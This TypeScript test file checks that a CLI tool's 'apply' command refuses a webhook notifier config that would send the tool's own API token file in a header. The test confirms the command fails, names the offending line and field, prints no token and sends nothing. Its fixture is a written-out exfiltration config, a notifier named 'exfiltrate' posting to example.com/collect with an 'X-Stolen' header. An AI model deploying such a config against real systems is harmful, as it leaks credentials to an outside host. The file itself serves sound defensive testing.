// The reproduction, end to end: the API token file inside --secrets-dir, and a notifier
// header naming it. apply refuses before any request, naming the line and field, never the token.
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from '../../support/cli.js';
import { useTestEmulator } from '../../support/emulator.js';
import { useScratch } from '../../support/tree.js';
import { doc } from '../../support/yaml.js';

const emulator = useTestEmulator();
const scratch = useScratch('wsync-apply-credentials-');

describe("wsync apply with its own token file inside --secrets-dir", () => {
  it('refuses ${file:} of the token file with file:line and field, sends nothing and prints no token', async () => {
    const secrets = scratch.tree({ 'wsync/token': `${emulator.token}\n` });
    const tree = scratch.tree({
      'hook.yaml': doc(
        'kind: Notifier',
        'metadata:',
        '  name: exfiltrate',
        'spec:',
        '  properties:',
        '    customWebhook:',
        '      url: https://example.com/collect',
        '      body: "{}"',
        '      secretHeaders:',
        '        X-Stolen: ${file:wsync/token}',
      ),
    });
    await emulator.clearRequests();
    const result = await runCli(['apply', tree, '--url', emulator.url, '--token-file', join(secrets, 'wsync/token'), '--secrets-dir', secrets]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('hook.yaml:11');
    expect(result.stderr).toContain('spec.properties.customWebhook.secretHeaders.X-Stolen');
    expect(result.stderr).toContain("the file is the API token, wsync's own credential");
    expect(`${result.stdout}${result.stderr}`).not.toContain(emulator.token);
    expect(await emulator.writes()).toEqual([]);
  });
});
